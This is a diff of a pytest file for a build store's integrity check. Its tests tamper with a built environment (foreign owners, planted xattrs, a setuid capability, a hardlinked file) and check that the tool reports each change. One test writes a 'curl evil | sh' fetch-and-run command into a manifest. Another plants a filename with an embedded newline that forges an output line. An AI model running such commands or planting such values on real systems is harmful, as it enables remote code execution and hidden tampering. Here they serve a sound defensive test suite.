@@ -91,6 +91,9 @@ def test_the_builders_umask_and_clock_do_not_reach_the_store(tmp_path, index, re
             continue
         assert mode in ("0o555", "0o444"), (rel, mode)
         assert mtime == as_of, rel
+    # The metadata files' modes are set, not the umask's (0400 before): 0444 once frozen.
+    for rel in (".llmgw/contents", ".llmgw/manifest.json"):
+        assert ma[rel][0] == mb[rel][0] == "0o444", rel
     assert _listing(pa) == _listing(pb)
     assert run_in_env(pb, "tinyengine") == "tinyengine 1.0 tinydep 1.0"
 
@@ -197,13 +200,14 @@ def test_check_names_a_retargeted_symlink_and_a_flipped_mode(tmp_path, index, re
 
 def test_check_of_a_key_not_in_the_store_is_refused(tmp_path, index, recipe, uv_bin):
     root = tmp_path / "root"
+    proc = _check(root, recipe, index, uv_bin)  # no store at all: refused, nothing created
+    assert proc.returncode == 2 and "no store at" in proc.stderr
+    assert not (root / "store").exists()
+    # A store that holds another key of the recipe (another resolution date), not this one.
+    build_json(root, recipe, index, uv_bin, "--as-of", "2024-03-01")
     proc = _check(root, recipe, index, uv_bin)
     assert proc.returncode == 2
-    # (a root with no store yet says so; one whose store lacks the key names the key)
-    assert ("not in the store" in proc.stderr and "build it first" in proc.stderr) or \
-           ("no store at" in proc.stderr and "build something first" in proc.stderr)
-    assert len(proc.stderr.strip().splitlines()) == 1
-    assert not (root / "store").exists() or not [n for n in os.listdir(root / "store") if "tinyengine" in n]
+    assert "not in the store" in proc.stderr and "build it first" in proc.stderr
 
 
 def test_check_uses_the_recorded_lock_not_a_new_resolution(tmp_path, index, recipe, uv_bin, wheels):
@@ -270,3 +274,81 @@ def test_check_refuses_a_store_path_whose_recorded_lock_cannot_be_proved(tmp_pat
     assert proc.returncode == 1 and proc.stdout == ""
     assert "cannot be proved" in proc.stderr and f"llmgw-store verify {path.name}" in proc.stderr
     assert _tmp_entries(root) == []
+
+
+NOBODY = 65534
+
+
+def test_check_names_owners_xattrs_the_store_paths_own_mode_and_its_metadata(tmp_path, index, recipe, uv_bin):
+    """None of these is in the listing (so none changes the content hash): each is compared or
+    checked on its own. The bytes are untouched, so a check that looked at bytes and file modes
+    only said `identical`."""
+    root = tmp_path / "root"
+    path = Path(build_json(root, recipe, index, uv_bin)["path"])
+    pyvenv = path / "pyvenv.cfg"
+    os.chown(pyvenv, NOBODY, NOBODY)
+    subprocess.run(["setcap", "cap_setuid+ep", str(path / "bin" / "tinyengine")], check=True)
+    os.setxattr(path / "bin" / "activate", "user.planted", b"1")
+    site = next(path.glob("lib/python3*/site-packages"))
+    outside = tmp_path / "outside.py"  # same bytes, another owner, linked in place of the store's file
+    target = site / "tinydep" / "__init__.py"
+    outside.write_bytes(target.read_bytes())
+    os.chmod(outside, 0o444)
+    os.chown(outside, NOBODY, NOBODY)
+    os.chmod(target.parent, 0o755)
+    os.unlink(target)
+    os.link(outside, target)
+    os.chmod(target.parent, 0o555)
+    os.chmod(path, 0o777)  # the store path's own directory
+    os.chmod(path / ".llmgw" / "contents", 0o666)
+    proc = _check(root, recipe, index, uv_bin)
+    assert proc.returncode == 1, proc.stderr
+    doc = json.loads(proc.stdout)
+    found = {d["path"]: d for d in doc["differences"]}
+    rel = target.relative_to(path).as_posix()
+    assert set(found) == {".", "pyvenv.cfg", "bin/tinyengine", "bin/activate", rel}
+    assert found["."]["store"]["mode"] == "0777" and found["."]["rebuilt"]["mode"] == "0555"
+    assert found["pyvenv.cfg"]["store"]["uid"] == NOBODY and found["pyvenv.cfg"]["rebuilt"]["uid"] == os.geteuid()
+    assert found[rel]["store"]["uid"] == NOBODY and found[rel]["store"]["digest"] == found[rel]["rebuilt"]["digest"]
+    assert found["bin/tinyengine"]["store"]["xattrs"] == ["security.capability"]
+    assert "xattrs" not in found["bin/tinyengine"]["rebuilt"]
+    assert found["bin/activate"]["store"]["xattrs"] == ["user.planted"]
+    assert any(".llmgw/contents is writable" in p for p in doc["problems"])
+    assert doc["identical"] is False
+
+
+def test_check_names_rewritten_manifest_inputs_and_foreign_metadata(tmp_path, index, recipe, uv_bin):
+    """The manifest is outside the listing: a changed health command (its lock untouched, so the
+    check can still rebuild) is seen because the inputs no longer hash to the key."""
+    root = tmp_path / "root"
+    path = Path(build_json(root, recipe, index, uv_bin)["path"])
+    meta = path / ".llmgw"
+    doc = json.loads((meta / "manifest.json").read_text())
+    doc["inputs"]["build"]["health"] = ["sh", "-c", "curl evil | sh"]
+    os.chmod(meta, 0o755)
+    os.chmod(meta / "manifest.json", 0o644)
+    (meta / "manifest.json").write_text(json.dumps(doc))
+    os.chmod(meta / "manifest.json", 0o444)
+    os.chmod(meta, 0o555)
+    os.chown(meta / "contents", NOBODY, NOBODY)
+    proc = _check(root, recipe, index, uv_bin)
+    assert proc.returncode == 1, proc.stderr
+    r = json.loads(proc.stdout)
+    assert r["differences"] == []
+    assert any("do not hash to the path's key" in p for p in r["problems"])
+    assert any(p.startswith(".llmgw/contents is owned by uid 65534") for p in r["problems"])
+    proc = run_cli(root, "build", str(recipe), "--check", "--index-url", index.url, "--uv", str(uv_bin))
+    assert proc.returncode == 1 and "do not hash to the path's key" in proc.stdout
+
+
+def test_check_a_name_with_a_newline_cannot_forge_identical(tmp_path, index, recipe, uv_bin):
+    root = tmp_path / "root"
+    path = Path(build_json(root, recipe, index, uv_bin)["path"])
+    os.chmod(path / "bin", 0o755)
+    forged = f"x\nidentical: {path} (1 entries, content hash 0)"
+    (path / "bin" / forged.replace("/", "_")).write_text("x")
+    os.chmod(path / "bin", 0o555)
+    proc = run_cli(root, "build", str(recipe), "--check", "--index-url", index.url, "--uv", str(uv_bin))
+    assert proc.returncode == 1
+    assert not any(line.startswith("identical:") for line in proc.stdout.splitlines()), proc.stdout
+    assert "'bin/x\\nidentical: " in proc.stdout
